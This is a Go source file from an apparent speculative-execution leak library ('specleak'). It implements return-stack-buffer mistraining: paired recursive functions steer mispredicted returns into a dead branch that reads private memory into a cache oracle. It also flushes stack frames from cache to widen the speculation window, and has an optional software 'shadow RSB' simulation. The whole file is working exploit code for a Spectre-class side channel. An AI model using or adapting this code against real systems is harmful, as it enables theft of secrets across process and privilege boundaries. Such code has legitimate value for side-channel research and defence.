// ─────────────────────────────────────────────────────────────────────────────
// [Filename]: ret.go — Return-address (RSB) mistraining
//
// Purpose:
//   - returnsTrue recurses to depth D and always returns true; returnsFalse
//     recurses to depth D and always returns false, with a branch on its child's
//     result that is dead on the committed path and reads private[offset].
//   - On the measurement run returnsTrue's base case enters returnsFalse, whose
//     D call sites overwrite the whole return stack buffer. As returnsTrue then
//     unwinds, each return is predicted into returnsFalse's dead branch with a
//     true value in flight.
//
// Notes:
//   - D must be at least the RSB capacity or stale returnsTrue entries survive.
//   - Each returnsTrue frame is flushed from cache when it unwinds, so its return
//     address resolves slowly and the window stays open. The flush is an explicit
//     step, bounded by the stack marks of the frame and its parent.
//   - No process globals: both base-case callbacks live in ReturnAddressState.
// ─────────────────────────────────────────────────────────────────────────────

package predictor

import (
	"unsafe"

	"specleak/constants"
	"specleak/oracle"
)

// Return sites reported to the shadow RSB.
const (
	siteEntry = iota + 1
	siteAfterTrue
	siteTrueBase
	siteAfterFalse
	siteFalseBase
	siteEnterFalse
)

// maxFrameSpan bounds a plausible distance between two adjacent stack marks.
// A larger or inverted span means the goroutine stack moved mid-trial.
const maxFrameSpan = 4096

// BaseCase is a swappable recursion base case.
type BaseCase func(r *ReturnAddress)

// ReturnAddressState is the call-depth counter, the two base-case slots and the
// per-frame stack marks of one strategy instance.
type ReturnAddressState struct {
	depth     int
	trueBase  BaseCase // run at returnsTrue's deepest frame
	falseBase BaseCase // run at returnsFalse's deepest frame

	marks [constants.MaxRecursionDepth + 2]uintptr
	sp    int

	offset  int
	trial   int
	flushed int // frames flushed on unwind during the last TriggerOnce
}

// Depth returns the fill depth.
func (s *ReturnAddressState) Depth() int { return s.depth }

// FlushedFrames returns how many frames the last TriggerOnce flushed on unwind.
func (s *ReturnAddressState) FlushedFrames() int { return s.flushed }

// ReturnAddress mistrains the return stack buffer.
type ReturnAddress struct {
	state   ReturnAddressState
	oracle  *oracle.Oracle
	backend oracle.Backend
	data    *Data
	shadow  Shadow

	// TrainingRuns is the number of no-op-base runs before each measurement run.
	TrainingRuns int
}

// NewReturnAddress builds the strategy with fill depth depth.
// depth must be in [MinRecursionDepth, MaxRecursionDepth] and, when the shadow
// reports a capacity, at least that capacity.
func NewReturnAddress(o *oracle.Oracle, d *Data, depth int, shadow Shadow) (*ReturnAddress, error) {
	if depth < constants.MinRecursionDepth {
		return nil, ErrDepthTooShallow
	}
	if depth > constants.MaxRecursionDepth {
		return nil, ErrDepthTooDeep
	}
	if c, ok := shadow.(interface{ Capacity() int }); ok && depth < c.Capacity() {
		return nil, ErrDepthTooShallow
	}
	r := &ReturnAddress{
		oracle:       o,
		backend:      o.Backend(),
		data:         d,
		shadow:       shadow,
		TrainingRuns: 1,
	}
	r.state.depth = depth
	r.state.trueBase = nopBase
	r.state.falseBase = nopBase
	return r, nil
}

// State exposes the recursion state for inspection.
func (r *ReturnAddress) State() *ReturnAddressState { return &r.state }

// TriggerOnce runs the training recursions, then one measurement recursion with
// returnsTrue's base case swapped to enter returnsFalse.
func (r *ReturnAddress) TriggerOnce(offset, trial int) {
	st := &r.state
	st.offset, st.trial, st.flushed = offset, trial, 0

	for i := 0; i < r.TrainingRuns; i++ {
		r.run()
	}

	st.trueBase = enterFalse
	r.run()
	st.trueBase = nopBase

	// Committed path: the baseline slot is the one architectural oracle access.
	r.oracle.Touch(r.data.load(offset, false))
}

// run performs one full returnsTrue recursion from a fresh mark table.
//
//go:noinline
func (r *ReturnAddress) run() {
	var mark byte
	st := &r.state
	st.marks[0] = uintptr(unsafe.Pointer(&mark))
	st.sp = 1

	r.call(siteEntry)
	v := returnsTrue(r, st.depth)
	r.ret(siteEntry, v)

	st.sp = 0
}

// returnsTrue always returns true.
//
//go:noinline
func returnsTrue(r *ReturnAddress, depth int) bool {
	var mark byte
	st := &r.state
	st.marks[st.sp] = uintptr(unsafe.Pointer(&mark))
	st.sp++

	if depth > 0 {
		r.call(siteAfterTrue)
		v := returnsTrue(r, depth-1)
		r.ret(siteAfterTrue, v)
	} else {
		r.call(siteTrueBase)
		st.trueBase(r)
		r.ret(siteTrueBase, false)
	}

	st.sp--
	r.flushFrame(st.marks[st.sp], st.marks[st.sp-1])
	return true
}

// returnsFalse always returns false.
//
//go:noinline
func returnsFalse(r *ReturnAddress, depth int) bool {
	if depth > 0 {
		r.call(siteAfterFalse)
		v := returnsFalse(r, depth-1)
		r.ret(siteAfterFalse, v)
		if v {
			// Reached only transiently, on a return predicted here from returnsTrue.
			r.leak()
		}
	} else {
		r.call(siteFalseBase)
		r.state.falseBase(r)
		r.ret(siteFalseBase, false)
	}
	return false
}

// enterFalse is returnsTrue's base case on the measurement run.
//
//go:noinline
func enterFalse(r *ReturnAddress) {
	r.call(siteEnterFalse)
	returnsFalse(r, r.state.depth)
	r.ret(siteEnterFalse, false)
}

//go:noinline
func nopBase(*ReturnAddress) {}

// leak is the transient body.
//
//go:noinline
func (r *ReturnAddress) leak() {
	r.oracle.Touch(r.data.load(r.state.offset, true))
}

// flushFrame evicts [own, parent) once the frame above own has unwound.
//
//go:nosplit
func (r *ReturnAddress) flushFrame(own, parent uintptr) {
	if parent <= own || parent-own > maxFrameSpan {
		return
	}
	oracle.FlushRange(r.backend, own, parent)
	r.state.flushed++
}

// call reports a call to the shadow RSB.
//
//go:nosplit
func (r *ReturnAddress) call(site int) {
	if r.shadow != nil {
		r.shadow.Call(site)
	}
}

// ret reports a return to the shadow RSB. A return predicted into returnsFalse
// while carrying true runs returnsFalse's dead branch once.
//
//go:nosplit
func (r *ReturnAddress) ret(actual int, v bool) {
	if r.shadow == nil {
		return
	}
	p, ok := r.shadow.Return(actual)
	if ok && p != actual && p == siteAfterFalse && v {
		r.leak()
	}
}
